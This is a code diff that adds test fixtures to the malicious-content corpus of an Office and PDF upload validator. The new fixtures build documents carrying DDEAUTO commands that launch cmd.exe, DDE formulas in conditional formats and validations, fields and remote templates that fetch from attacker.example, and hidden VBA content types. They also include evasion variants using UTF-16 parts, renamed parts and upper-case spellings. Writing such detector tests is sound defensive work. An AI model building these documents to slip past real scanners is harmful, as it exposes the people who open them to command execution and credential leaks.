@@ -5,6 +5,17 @@ import type { FindingCode } from '../../../shared/validation/inspect.ts';
 import {
   activeX,
   activeXByContentType,
+  altChunk,
+  contentTypes,
+  mainDocumentAt,
+  mainRels,
+  office,
+  REL,
+  rel,
+  rels,
+  story,
+  utf16,
+  utf16SheetAcrossChunks,
   complexField,
   dataConnection,
   definedNameFormula,
@@ -46,7 +57,7 @@ import {
   pageObjects,
   type PdfObj,
 } from '../../fixtures/active-pdf.ts';
-import { MiB, windowsExecutable } from '../../fixtures/files.ts';
+import { buildZip, docxEntries, MiB, windowsExecutable } from '../../fixtures/files.ts';
 import type { CorpusItem } from './corpus-item.ts';
 
 /**
@@ -516,7 +527,243 @@ const officeItems: CorpusItem[] = [
     bytes: () => documentWith(complexField(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\x.png" \\d ')),
     expect: 'OOXML_EXTERNAL',
   },
+  ...hiddenOfficeItems(),
 ];
+
+/**
+ * Office content found in this round's hunt: documents imported by altChunk, the other field
+ * names that fetch (INCLUDE, IMPORT, DATABASE, RD), instructions in a tracked deletion, formulas
+ * outside cells (conditional formats, data validations, table columns), story parts and sheets
+ * under names the checks did not read, UTF-16 parts (a byte-order mark split between two upload
+ * chunks), Strict OOXML types, and [Content_Types].xml and relationship spellings.
+ */
+function hiddenOfficeItems(): CorpusItem[] {
+  const dde = complexField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ');
+  const unc = '"\\\\\\\\attacker.example\\\\share\\\\x.docx"';
+  const ddeSheet = (inner: string) =>
+    office('xlsx', {
+      'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/>${inner}</worksheet>`,
+    });
+  const item = (id: string, category: string, bytes: () => Promise<Buffer>, expect: FindingCode): CorpusItem => ({
+    id,
+    category,
+    declared: id.startsWith('xlsx') ? 'xlsx' : 'docx',
+    bytes,
+    expect,
+  });
+  const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
+  const vba = '<Override PartName="/word/media/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
+  return [
+    item('docx-altchunk-rtf-ole', 'OOXML embedded object', () => altChunk('rtf'), 'OOXML_EMBEDDED_OBJECT'),
+    item(
+      'docx-altchunk-mht-strict',
+      'OOXML embedded object',
+      () => altChunk('mht', `${strict}/aFChunk`),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item('docx-include-unc', 'OOXML external', () => documentWith(complexField(` INCLUDE ${unc} `)), 'OOXML_EXTERNAL'),
+    item(
+      'docx-import-unc',
+      'OOXML external',
+      () => documentWith(complexField(' IMPORT "\\\\\\\\attacker.example\\\\x.png" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-database-connection',
+      'OOXML external',
+      () =>
+        documentWith(
+          complexField(` DATABASE \\d ${unc} \\c "DSN=x;DBQ=\\\\\\\\attacker.example\\\\d.mdb" \\s "SELECT * FROM t" `),
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item('docx-rd-unc', 'OOXML external', () => documentWith(complexField(` RD ${unc} \\f `)), 'OOXML_EXTERNAL'),
+    item(
+      'docx-ddeauto-tracked-deletion',
+      'DDE',
+      () => documentWith(dde.replaceAll('instrText', 'delInstrText')),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-ddeauto-mc-choice',
+      'DDE',
+      () =>
+        documentWith(
+          `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w14">${dde}</mc:Choice><mc:Fallback><w:r><w:t>1</w:t></w:r></mc:Fallback></mc:AlternateContent>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-conditional-format',
+      'DDE',
+      () =>
+        ddeSheet(
+          `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|' /c calc'!A0</formula></cfRule></conditionalFormatting>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-data-validation',
+      'DDE',
+      () =>
+        ddeSheet(
+          `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>cmd|' /c calc'!A0</formula1></dataValidation></dataValidations>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-table-column',
+      'DDE',
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/tables/table1.xml',
+            data: `<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="A1:A2"><tableColumns count="1"><tableColumn id="1" name="a"><calculatedColumnFormula>cmd|' /c calc'!A0</calculatedColumnFormula></tableColumn></tableColumns></table>`,
+          },
+        ]),
+      'OOXML_DDE',
+    ),
+    // Story parts and sheets under names the checks did not read (Word follows _rels/.rels).
+    item('docx-ddeauto-main-renamed', 'DDE', () => mainDocumentAt('word/document2.xml', dde), 'OOXML_DDE'),
+    item('docx-ddeauto-main-percent-folder', 'DDE', () => mainDocumentAt('%77ord/body.xml', dde), 'OOXML_DDE'),
+    item(
+      'docx-ddeauto-main-outside-word',
+      'OOXML unreadable',
+      () => mainDocumentAt('body.xml', dde),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-main-by-default-type',
+      'OOXML unreadable',
+      () => mainDocumentAt('word/body.dat', dde, 'default'),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-header-odd-name',
+      'DDE',
+      () => office('docx', {}, [{ name: 'word/header_first.xml', data: story('hdr', dde) }]),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-sheet-outside-xl',
+      'OOXML unreadable',
+      () =>
+        office('xlsx', {
+          '[Content_Types].xml': contentTypes(
+            'xlsx',
+            '<Override PartName="/sheets/s.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
+          ),
+        }),
+      'OOXML_UNREADABLE',
+    ),
+    // UTF-16 parts: refused however the byte-order mark arrives.
+    item(
+      'docx-ddeauto-header-utf16',
+      'OOXML unreadable',
+      () => office('docx', { 'word/header1.xml': utf16(story('hdr', dde)) }),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-footnotes-utf16-no-mark',
+      'OOXML unreadable',
+      () => office('docx', { 'word/footnotes.xml': utf16(story('footnotes', dde), false) }),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-glossary-utf16',
+      'OOXML unreadable',
+      () => office('docx', { 'word/glossary/document.xml': utf16(story('glossaryDocument', dde)) }),
+      'OOXML_UNREADABLE',
+    ),
+    item('xlsx-dde-sheet-utf16-mark-across-chunks', 'OOXML unreadable', utf16SheetAcrossChunks, 'OOXML_UNREADABLE'),
+    // Strict OOXML types and other spellings of what is refused.
+    item(
+      'docx-remote-template-strict',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/_rels/settings.xml.rels': rels(
+            rel('rId1', `${strict}/attachedTemplate`, 'http://attacker.example/t.dotm', true),
+          ),
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-ole-strict',
+      'OOXML embedded object',
+      () => office('docx', mainRels('docx', rel('rId9', `${strict}/oleObject`, '../embeddings/oleObject1.bin'))),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item(
+      'docx-remote-template-type-spaced-upper-case',
+      'OOXML external',
+      () =>
+        office(
+          'docx',
+          mainRels(
+            'docx',
+            `<Relationship Id="rId9" Type=" ${REL}/ATTACHEDTEMPLATE  " Target="\\\\attacker.example\\t.dotm" TargetMode=" external "/>`,
+          ),
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-remote-template-rels-upper-case',
+      'OOXML external',
+      () =>
+        buildZip(
+          docxEntries().map((e) =>
+            e.name === '_rels/.rels'
+              ? {
+                  name: '_RELS/.RELS',
+                  data: rels(
+                    rel('rId1', 'officeDocument', 'word/document.xml'),
+                    rel('rId2', 'attachedTemplate', 'http://attacker.example/t.dotm', true),
+                  ),
+                }
+              : e,
+          ),
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-vba-content-type-second-types',
+      'macros',
+      () =>
+        office(
+          'docx',
+          { '[Content_Types].xml': contentTypes('docx').replace('</Types>', `</Types><Types>${vba}</Types>`) },
+          [{ name: 'word/media/data.bin', data: randomBytes(512) }],
+        ),
+      'MACROS',
+    ),
+    item(
+      'docx-vba-content-type-utf16-no-mark',
+      'macros',
+      () =>
+        office('docx', { '[Content_Types].xml': utf16(contentTypes('docx', vba), false) }, [
+          { name: 'word/media/data.bin', data: randomBytes(512) },
+        ]),
+      'MACROS',
+    ),
+    item(
+      'docx-vba-content-type-upper-case-default',
+      'macros',
+      () =>
+        office(
+          'docx',
+          {
+            '[Content_Types].xml': contentTypes(
+              'docx',
+              '<Default Extension="BIN" ContentType="APPLICATION/VND.MS-OFFICE.VBAPROJECT"/>',
+            ),
+          },
+          [{ name: 'word/media/DATA.BIN', data: randomBytes(512) }],
+        ),
+      'MACROS',
+    ),
+  ];
+}
 
 /** Whitespace that does not compress like a bomb (spaces, tabs and line ends at random). */
 function whitespace(length: number): string {
@@ -662,5 +909,18 @@ export const ACTIVE_GENUINE: readonly {
     id: 'ofd-goto',
     declared: 'ofd',
     bytes: () => ofdAction('CLICK', '<ofd:Goto><ofd:Dest Type="XYZ" PageID="1"/></ofd:Goto>'),
+  },
+  {
+    id: 'docx-header-odd-name-page-field',
+    declared: 'docx',
+    bytes: () => office('docx', {}, [{ name: 'word/header_first.xml', data: story('hdr', complexField(' PAGE ')) }]),
+  },
+  {
+    id: 'xlsx-conditional-format-and-validation-pipe-in-string',
+    declared: 'xlsx',
+    bytes: () =>
+      office('xlsx', {
+        'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>ISNUMBER(SEARCH(&quot;|&quot;,A1))</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>&quot;是|否&quot;</formula1></dataValidation></dataValidations></worksheet>`,
+      }),
   },
 ];
